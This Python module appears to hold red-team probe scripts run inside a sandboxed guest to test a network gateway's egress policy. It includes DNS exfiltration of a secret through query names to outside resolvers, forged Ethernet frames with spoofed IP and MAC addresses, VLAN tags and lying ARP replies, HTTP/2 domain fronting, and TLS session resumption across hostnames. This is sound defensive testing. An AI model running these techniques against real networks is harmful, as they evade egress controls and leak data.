"""Python programs the red-team cases run inside the guest (stdlib only)."""

from __future__ import annotations

# Raw HTTP/1.1 over TLS: argv[1] = SNI, argv[2] = the request's bytes (escaped).
RAW_TLS = r"""
import socket, ssl, sys
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["http/1.1"])
s = ctx.wrap_socket(socket.create_connection(("10.200.0.1", 443), timeout=10),
                    server_hostname=sys.argv[1])
s.sendall(sys.argv[2].encode().decode("unicode_escape").encode("latin-1"))
data = b""
try:
    while chunk := s.recv(65536):
        data += chunk
except (socket.timeout, ssl.SSLError, OSError):
    pass
print(data.decode("latin-1").split("\r\n", 1)[0])
"""

# Hand-made HTTP/2: two streams on one TLS connection, the second with another
# :authority. HPACK literals without indexing, so no table or Huffman is needed.
H2_TWO_AUTHORITIES = r"""
import socket, ssl, struct, sys
sni, second = sys.argv[1], sys.argv[2]
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["h2"])
s = ctx.wrap_socket(socket.create_connection(("10.200.0.1", 443), timeout=10),
                    server_hostname=sni)
assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
def frame(kind, flags, stream, payload):
    head = struct.pack("!I", len(payload))[1:] + bytes([kind, flags])
    return head + struct.pack("!I", stream) + payload
def lit(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
def headers(authority):
    return (lit(b":method", b"GET") + lit(b":scheme", b"https") +
            lit(b":path", b"/h2") + lit(b":authority", authority.encode()))
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
s.sendall(frame(1, 5, 1, headers(sni)) + frame(1, 5, 3, headers(second)))
bodies, ended, buf = {1: b"", 3: b""}, set(), b""
while len(ended) < 2:
    chunk = s.recv(65536)
    if not chunk:
        break
    buf += chunk
    while len(buf) >= 9:
        size = int.from_bytes(buf[:3], "big")
        if len(buf) < 9 + size:
            break
        kind, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
        payload, buf = buf[9:9 + size], buf[9 + size:]
        if kind == 4 and not flags & 1:
            s.sendall(frame(4, 1, 0, b""))
        if kind == 0 and stream in bodies:
            bodies[stream] += payload
        if kind in (0, 1) and flags & 1 and stream in bodies:
            ended.add(stream)
        if kind == 3 and stream in bodies:
            ended.add(stream)
print("STREAM1", bodies[1].decode(errors="replace").replace("\n", " "))
print("STREAM3", bodies[3].decode(errors="replace").replace("\n", " "))
"""

# DNS questions of many shapes to many places; prints one line per attempt.
DNS_EXFIL = r"""
import socket, struct, sys, random
secret = sys.argv[1]
def query(name, qtype):
    header = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + labels + struct.pack("!HH", qtype, 1)
def udp(server, port, packet):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(packet, (server, port))
        data = s.recv(4096)
        return "rcode=%d answers=%d" % (data[3] & 15, struct.unpack("!H", data[6:8])[0])
    except OSError as exc:
        return type(exc).__name__
def tcp(server, port, packet):
    try:
        s = socket.create_connection((server, port), timeout=2)
        s.sendall(struct.pack("!H", len(packet)) + packet)
        data = s.recv(4096)[2:]
        return "rcode=%d" % (data[3] & 15) if data else "closed"
    except OSError as exc:
        return type(exc).__name__
for qtype, label in ((16, "txt"), (10, "null"), (255, "any"), (1, "a"), (28, "aaaa"), (5, "cname")):
    name = "%s-%s.exfil.test" % (secret, label)
    for server in ("10.200.0.1", "198.51.100.53", "8.8.8.8"):
        print(label, server, "udp", udp(server, 53, query(name, qtype)))
    print(label, "tcp", tcp("198.51.100.53", 53, query(name, qtype)))
print("dot", tcp("198.51.100.53", 853, query(secret + "-dot.exfil.test", 1)))
print("port5353", udp("198.51.100.53", 5353, query(secret + "-mdns.exfil.test", 1)))
"""

# Other protocols must fail fast: prints "<what> <outcome> <seconds>".
FAIL_FAST = r"""
import socket, time
def attempt(what, fn):
    start = time.monotonic()
    try:
        fn()
        outcome = "ok"
    except OSError as exc:
        outcome = type(exc).__name__
    print(what, outcome, "%.2f" % (time.monotonic() - start))
def tcp(port, host="198.51.100.10"):
    socket.create_connection((host, port), timeout=5).close()
def quic():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect(("198.51.100.10", 443))
    s.send(b"\xc0" + b"\0" * 1200)
    s.recv(100)
def v6():
    socket.create_connection(("2001:db8::10", 443), timeout=5).close()
attempt("tcp22", lambda: tcp(22))
attempt("tcp8443", lambda: tcp(8443))
attempt("gateway-port-direct", lambda: tcp(10443, "10.200.0.1"))
attempt("host-side-ssh", lambda: tcp(22, "10.200.0.1"))
attempt("quic", quic)
attempt("ipv6", v6)
"""

# Raw frames from the guest's eth0: a control DNS query (should be seen) and the same
# query with a spoofed source IP, spoofed MAC, VLAN tag, over IPv6, plus lying ARPs.
SPOOF = r"""
import socket, struct, sys
tag = sys.argv[1]
GMAC = bytes.fromhex("025350000002")
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF
def dns(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", 1, 1)
def ipv4(src, payload):
    udp = struct.pack("!HHHH", 40000, 53, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                       socket.inet_aton(src), socket.inet_aton("10.200.0.1"))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return head + udp
def ipv6(payload):
    udp = struct.pack("!HHHH", 40000, 53, 8 + len(payload), 0) + payload
    src = socket.inet_pton(socket.AF_INET6, "fe80::53:50ff:fe00:2")
    dst = socket.inet_pton(socket.AF_INET6, "ff02::1")
    return struct.pack("!IHBB", 0x60000000, len(udp), 17, 64) + src + dst + udp
def send(dst_mac, src_mac, ethertype, payload, vlan=None):
    tagged = struct.pack("!HH", 0x8100, vlan) if vlan is not None else b""
    s.send(dst_mac + src_mac + tagged + struct.pack("!H", ethertype) + payload)
def arp(sender_mac, sender_ip, target_ip):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + sender_mac + socket.inet_aton(sender_ip)
    return body + b"\xff" * 6 + socket.inet_aton(target_ip)
bcast = b"\xff" * 6
send(bcast, GMAC, 0x0800, ipv4("10.200.0.2", dns(tag + "-control.spoof.test")))
send(bcast, GMAC, 0x0800, ipv4("10.200.0.77", dns(tag + "-srcip.spoof.test")))
OTHER = bytes.fromhex("02aabbccddee")
send(bcast, OTHER, 0x0800, ipv4("10.200.0.2", dns(tag + "-srcmac.spoof.test")))
send(bcast, GMAC, 0x0800, ipv4("10.200.0.2", dns(tag + "-vlan.spoof.test")), vlan=5)
send(b"\x33\x33\x00\x00\x00\x01", GMAC, 0x86DD, ipv6(dns(tag + "-ipv6.spoof.test")))
send(bcast, GMAC, 0x0806, arp(GMAC, "10.200.0.9", "10.200.0.9"))
send(bcast, OTHER, 0x0806, arp(OTHER, "10.200.0.2", "10.200.0.1"))
print("sent")
"""

# A WebSocket-style upgrade that then waits for the gateway to close it.
WEBSOCKET_HELD = r"""
import socket, ssl, sys, time
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["http/1.1"])
s = ctx.wrap_socket(socket.create_connection(("10.200.0.1", 443), timeout=30),
                    server_hostname="allowed.test")
s.sendall(b"GET /ws HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\n"
          b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
          b"Sec-WebSocket-Version: 13\r\n\r\n")
head = s.recv(4096)
print("HEAD", head.split(b"\r\n", 1)[0].decode())
s.sendall(b"ping")
print("ECHO", s.recv(100).decode(errors="replace"))
sys.stdout.flush()
start = time.monotonic()
try:
    data = s.recv(100)
    print("CLOSED" if not data else "DATA", "%.1f" % (time.monotonic() - start))
except (socket.timeout, ssl.SSLError, OSError) as exc:
    print("CLOSED", type(exc).__name__, "%.1f" % (time.monotonic() - start))
"""

# TLS resumption: a session from one SNI offered on a handshake with another.
RESUME = r"""
import socket, ssl
ctx = ssl.create_default_context()
ctx.maximum_version = ssl.TLSVersion.TLSv1_2
def connect(name, session=None):
    raw = socket.create_connection(("10.200.0.1", 443), timeout=10)
    s = ctx.wrap_socket(raw, server_hostname=name, session=session)
    s.sendall(("GET /r HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % name).encode())
    first = s.recv(4096).split(b"\r\n", 1)[0].decode()
    return s, first
s, first = connect("good.cdn.test")
print("FIRST", first, s.session is not None)
session = s.session
s.close()
try:
    t, second = connect("evil.cdn.test", session)
    print("SECOND", second, t.session_reused)
except (ssl.SSLError, OSError) as exc:
    print("SECOND refused", type(exc).__name__)
"""

# Two requests on one kept-alive TLS connection, the second after the policy changed.
KEEPALIVE_HELD = r"""
import socket, ssl, time
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["http/1.1"])
s = ctx.wrap_socket(socket.create_connection(("10.200.0.1", 443), timeout=30),
                    server_hostname="allowed.test")
def ask(path):
    s.sendall(("GET %s HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % path).encode())
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            return "CLOSED"
        data += chunk
    head, body = data.split(b"\r\n\r\n", 1)
    length = int(head.lower().split(b"content-length: ", 1)[1].split(b"\r\n")[0])
    while len(body) < length:
        body += s.recv(65536)
    return head.split(b"\r\n", 1)[0].decode()
print("FIRST", ask("/keepalive-1"), flush=True)
time.sleep(6)
try:
    print("SECOND", ask("/keepalive-2"))
except (OSError, ssl.SSLError) as exc:
    print("SECOND CLOSED", type(exc).__name__)
"""
